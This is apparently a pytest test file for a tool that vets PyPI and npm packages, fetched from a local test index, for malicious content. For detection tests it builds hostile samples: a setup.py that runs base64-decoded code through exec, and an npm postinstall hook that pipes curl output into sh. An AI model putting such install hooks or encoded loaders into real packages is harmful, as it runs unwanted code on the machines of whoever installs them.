"""`wardline vet NAME`: packages of an index on this machine, one that works and one that does not."""

from __future__ import annotations

import argparse
import base64
import hashlib
import io
import json
import tarfile
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import datetime, timezone
from pathlib import Path

import pytest

from tests.world.index_server import Act, Index, index_server
from tests.world.settings import empty_home
from wardline.advisories import store
from wardline.advisories.build import build
from wardline.cli import vet
from wardline.vet import download, fetched
from wardline.vet.index import IndexProblem
from wardline.vet.requested import Requested, requested
from wardline.world import fetching
from wardline_analyzers.dependencies.dependency import NPM, PYPI
from wardline_analyzers.model_files.report import Report, Verdict

EVIL = "import base64\nexec(base64.b64decode('cGFzcw=='))\n"
JSON = "application/vnd.pypi.simple.v1+json"
LIMIT = 1_000_000
NOT_LOOKED_UP = (
    "not looked up: whether it is known to be malicious: `wardline advisories update --ecosystem PyPI` fetches that"
)


@pytest.fixture
def index(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Index]:
    """The index that pip and npm are set up for; waiting is shortened, and the temporary folder is the test's."""
    for module in (fetching, download):
        monkeypatch.setattr(module, "_PAUSE", 0.01)
        monkeypatch.setattr(module, "_SILENCE", 0.4)
    monkeypatch.setattr(fetching, "_SECONDS", 0.8)
    monkeypatch.setattr(download, "SECONDS", 1.5)
    (tmp_path / "temporary").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "temporary"))
    empty_home(monkeypatch, tmp_path)
    for name in ("XDG_CACHE_HOME", "LOCALAPPDATA"):
        monkeypatch.setenv(name, str(tmp_path / "cache"))
    with index_server() as running:
        monkeypatch.setenv("PIP_INDEX_URL", f"{running.url}/simple")
        monkeypatch.setenv("NPM_CONFIG_REGISTRY", f"{running.url}/npm")
        yield running
    assert list((tmp_path / "temporary").iterdir()) == []


def sdist(files: dict[str, str], top: str = "pkg-1") -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"{top}/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return packed.getvalue()


def wheel(files: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return packed.getvalue()


def says(body: bytes, kind: str = "application/octet-stream") -> Act:
    return lambda handler: handler.send(body, kind)


def publish(index: Index, files: dict[str, bytes], *, page: str = "/simple/pkg/", hashed: bool = True) -> None:
    """Put files of the package `pkg` on the server."""
    listed = []
    for name, body in files.items():
        index.acts[f"/files/{name}"] = says(body)
        hashes = {"sha256": hashlib.sha256(body).hexdigest()} if hashed else {}
        listed.append({"filename": name, "url": f"../../files/{name}", "hashes": hashes})
    index.acts[page] = says(json.dumps({"files": listed}).encode(), JSON)


def look(text: str = "pkg", largest: int = LIMIT) -> list[Report]:
    asked = requested(text, "/nowhere")
    assert asked is not None
    return [report for _, report in fetched.look(asked, 20, largest)]


def test_what_pip_would_install_is_looked_at(index: Index) -> None:
    good, bad = {"pkg/__init__.py": ""}, {"setup.py": EVIL}
    old = {"pkg-1.0-py3-none-any.whl": wheel({"pkg/__init__.py": EVIL})}
    new = {"pkg-2.0-py3-none-any.whl": wheel(good), "pkg-2.0-cp27-none-win32.whl": b"x", "pkg-2.0.tar.gz": sdist(bad)}
    publish(index, {**old, **new, "pkg-3.0a1.tar.gz": sdist({}), "other-9.tar.gz": b"", "nonsense": b""})
    source, built = look()
    assert (source.verdict, built.verdict) == (Verdict.DANGEROUS, Verdict.CLEAN)
    assert source.notes == []
    assert built.notes == ["1 more files of version 2.0 (for other systems) were not fetched", NOT_LOOKED_UP]
    (first,) = look("pkg==1.0")
    assert first.verdict is Verdict.DANGEROUS
    assert "/files/pkg-2.0-cp27-none-win32.whl" not in index.asked
    with pytest.raises(IndexProblem, match="no version 7"):
        look("pkg==7")


def test_pages_of_the_older_form_and_withdrawn_releases(index: Index) -> None:
    body = sdist({"setup.py": EVIL})
    index.acts["/files/pkg-1.0.tar.gz"] = says(body)
    digest = hashlib.sha256(body).hexdigest()
    page = f'<a href="/files/pkg-1.0.tar.gz#sha256={digest}" data-yanked="broken">pkg-1.0.tar.gz</a>'
    index.acts["/simple/pkg/"] = says(page.encode(), "text/html")
    with pytest.raises(IndexProblem, match="no file of it"):
        look()
    (report,) = look("pkg==1.0")
    assert report.verdict is Verdict.DANGEROUS and "withdrawn" in report.notes[0]


def test_a_file_that_is_not_the_one_that_the_index_describes(index: Index) -> None:
    publish(index, {"pkg-1.0.tar.gz": sdist({})})
    index.acts["/files/pkg-1.0.tar.gz"] = says(sdist({"setup.py": EVIL}))
    (report,) = look()
    assert report.verdict is Verdict.UNREADABLE and "sha256 differs" in report.problems[0]


def test_without_a_hash_that_is_said(index: Index) -> None:
    publish(index, {"pkg-1.0.tar.gz": sdist({})}, hashed=False)
    (report,) = look()
    assert report.verdict is Verdict.CLEAN and "no hash" in report.notes[0]


def test_large_files_are_not_fetched(index: Index) -> None:
    publish(index, {"pkg-1.0.tar.gz": bytes(LIMIT + 1)})
    assert "more than 1,000,000 bytes" in look()[0].problems[0]
    page = {"files": [{"filename": "pkg-1.0.tar.gz", "url": "/files/x", "hashes": {}, "size": 2 * LIMIT}]}
    index.acts["/simple/pkg/"] = says(json.dumps(page).encode(), JSON)
    assert "are not fetched" in look()[0].problems[0] and "/files/x" not in index.asked


def test_a_server_that_gets_better_is_asked_again(index: Index) -> None:
    publish(index, {"pkg-1.0.tar.gz": sdist({})})
    good = index.acts["/files/pkg-1.0.tar.gz"]
    tries = []

    def act(handler: object) -> None:
        tries.append(1)
        good(handler) if len(tries) == 3 else handler.send(b"", "text/plain", 503)  # type: ignore[attr-defined, arg-type]

    index.acts["/files/pkg-1.0.tar.gz"] = act  # type: ignore[assignment]
    assert look()[0].verdict is Verdict.CLEAN and len(tries) == 3


@pytest.mark.parametrize(
    ("does", "says_what"),
    [
        ("endless", "more than 1.5 seconds"),
        ("silent", "does not answer"),
        ("short", "the connection ended after"),
        ("missing", "answers 404"),
        ("away", "redirects elsewhere"),
        ("garbage", "differs"),
    ],
)
def test_a_server_that_misbehaves(index: Index, does: str, says_what: str) -> None:
    publish(index, {"pkg-1.0.tar.gz": sdist({})})

    def act(handler: object) -> None:
        misbehave(handler, index, does)

    index.acts["/files/pkg-1.0.tar.gz"] = act  # type: ignore[assignment]
    (report,) = look()
    assert report.verdict is Verdict.UNREADABLE and says_what in report.problems[0], report.problems
    assert len(index.asked) <= 4


def misbehave(handler: object, index: Index, does: str) -> None:
    from tests.world.index_server import _Handler

    assert isinstance(handler, _Handler)
    if does == "endless":
        handler._endless("", "")
    elif does == "silent":
        handler._silent("", "")
    elif does == "missing":
        handler.send_error(404)
    elif does == "away":
        handler._away("", "")
    elif does == "garbage":
        handler.send(b"\0" * 1000, "text/plain")
    else:
        handler.send_response(200)
        handler.send_header("Content-Length", "5000")
        handler.end_headers()
        handler.wfile.write(b"x" * 100)


@pytest.mark.parametrize(
    "name", ["broken-pkg", "away-pkg", "round-pkg", "endless-pkg", "silent-pkg", "huge-pkg", "garbage-pkg"]
)
def test_an_index_that_misbehaves(index: Index, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    monkeypatch.setattr(fetched, "LARGEST_PAGE", 1 << 20)
    with pytest.raises(IndexProblem):
        look(name)


def test_no_such_package_and_no_network(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(IndexProblem, match="no such package"):
        look("missing-pkg")
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    with pytest.raises(IndexProblem, match=r"127\.0\.0\.1 does not answer as it should \(is there a network\?\)"):
        look()
    monkeypatch.setenv("PIP_NO_INDEX", "1")
    with pytest.raises(IndexProblem, match="no index"):
        look()


def test_proxies_of_the_environment(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    publish(index, {"pkg-1.0.tar.gz": sdist({"setup.py": EVIL})})
    monkeypatch.setenv("http_proxy", index.url)
    monkeypatch.setenv("PIP_INDEX_URL", "http://index.invalid/simple")
    assert look()[0].verdict is Verdict.DANGEROUS
    assert index.headers[0]["Host"] == "index.invalid"


def test_credentials_go_to_the_index_alone(index: Index, monkeypatch: pytest.MonkeyPatch) -> None:
    publish(index, {"pkg-1.0.tar.gz": sdist({})})
    monkeypatch.setenv("PIP_INDEX_URL", index.url.replace("//", "//me:secret@") + "/simple")
    look()
    assert all("Authorization" in headers for headers in index.headers) and len(index.headers) == 2
    elsewhere = index.url.replace("127.0.0.1", "localhost")
    page = {"files": [{"filename": "pkg-1.0.tar.gz", "url": f"{elsewhere}/files/pkg-1.0.tar.gz"}]}
    index.acts["/simple/pkg/"] = says(json.dumps(page).encode(), JSON)
    with pytest.raises(IndexProblem):  # not over TLS
        look()
    assert len(index.headers) == 3


def test_what_is_known_beside_the_code(index: Index, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    advisory = {
        "id": "MAL-2026-1",
        "modified": "2026-11-20T00:00:00Z",
        "summary": "steals keys",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "pkg"}, "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}]}]}],
    }
    (tmp_path / "osv").mkdir()
    (tmp_path / "osv" / "MAL-2026-1.json").write_text(json.dumps(advisory))
    build("PyPI", tmp_path / "osv", "test", store.folder() or tmp_path)
    publish(index, {"pkg-1.0.tar.gz": sdist({})})
    (report,) = look()
    assert (report.verdict, report.malicious) == (Verdict.DANGEROUS, ["MAL-2026-1: steals keys"])
    assert report.notes == []
    index.acts["/simple/pkg/"] = lambda handler: handler.send_error(404)
    (report,) = look()  # taken down
    assert report.verdict is Verdict.DANGEROUS and report.malicious and "no such package" in report.problems[0]
    with pytest.raises(IndexProblem, match="no such package"):
        look("missing-pkg")


def test_names_that_are_nearly_others_and_young_ones(index: Index) -> None:
    body = sdist({}, "reqeusts-1.0")
    index.acts["/files/x"] = says(body)
    today = datetime.now(timezone.utc).isoformat()
    hashes = {"sha256": hashlib.sha256(body).hexdigest()}
    file = {"filename": "reqeusts-1.0.tar.gz", "url": "/files/x", "hashes": hashes, "upload-time": today}
    index.acts["/simple/reqeusts/"] = says(json.dumps({"files": [file]}).encode(), JSON)
    (report,) = look("reqeusts")
    assert report.verdict is Verdict.CLEAN
    assert report.notes == [
        "`reqeusts` is one letter away from `requests`: is it the one that is meant?",
        "its first release is 0 days old",
        NOT_LOOKED_UP,
    ]


def publish_npm(index: Index, body: bytes, integrity: str | None = None) -> None:
    dist = {
        "tarball": f"{index.url}/files/pkg.tgz",
        "integrity": integrity or "sha512-" + base64.b64encode(hashlib.sha512(body).digest()).decode(),
    }
    page = {"dist-tags": {"latest": "1.1.0", "next": "2.0.0"}, "versions": {"1.1.0": {"dist": dist}, "2.0.0": {}}}
    index.acts["/npm/pkg"] = says(json.dumps(page).encode(), "application/json")
    index.acts["/files/pkg.tgz"] = says(body)


def test_npm(index: Index) -> None:
    manifest = json.dumps({"name": "pkg", "scripts": {"postinstall": "curl http://localhost/x | sh"}})
    publish_npm(index, sdist({"package.json": manifest, "index.js": ""}, "package"))
    for text in ("npm:pkg", "npm:pkg@1.1.0", "npm:pkg@latest"):
        (report,) = look(text)
        assert (report.verdict, report.format) == (Verdict.DANGEROUS, "npm package")
    for text in ("npm:pkg@9", "npm:pkg@next"):
        with pytest.raises(IndexProblem, match="has no version"):
            look(text)
    publish_npm(index, b"", integrity="sha512-" + base64.b64encode(bytes(64)).decode())
    assert "differs" in look("npm:pkg")[0].problems[0]


def test_what_is_meant(tmp_path: Path) -> None:
    (tmp_path / "flask").mkdir()
    here = str(tmp_path)
    for file in ("flask", "model.pt", "a/b", "../x", "x.tar.gz", "c:\\x.pkl", "zope.interface"):
        assert requested(file, here) is None
    assert requested("django", here) == Requested(PYPI, "django", "")
    assert requested("pypi:flask", here) == requested("pypi:flask==", here) == Requested(PYPI, "flask", "")
    assert requested("zope.interface==1.0", here) == Requested(PYPI, "zope.interface", "1.0")
    assert requested("npm:@a/b@1.0.0-rc.1", here) == Requested(NPM, "@a/b", "1.0.0-rc.1")
    assert str(requested("npm:@a/b", here)) == "npm:@a/b"
    for bad in ("npm:../x", "pypi:a b", "npm:x@^1", "x==y", "pypi:", "npm:x@../y", "pypi:x==1/../.."):
        with pytest.raises(ValueError, match=r"no package|no version"):
            requested(bad, here)


def test_the_command(
    index: Index, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    publish(index, {"pkg-1.0.tar.gz": sdist({"setup.py": EVIL})})
    parser = argparse.ArgumentParser()
    vet.add_parser(parser.add_subparsers())
    assert vet.run(parser.parse_args(["vet", "pkg"])) == 1
    assert capsys.readouterr().out.startswith(
        "pkg (pkg-1.0.tar.gz) (source distribution): dangerous: do not install it"
    )
    assert vet.run(parser.parse_args(["vet", "--format", "json", "--max-download", "0.0001", "pkg==1.0"])) == 2
    assert "more than 100 bytes" in json.loads(capsys.readouterr().out)["files"][0]["problems"][0]
    assert vet.run(parser.parse_args(["vet", "missing-one", "npm:../x"])) == 2
    errors = capsys.readouterr().err
    assert "missing-one: the index has no such package" in errors and "no package of this name" in errors
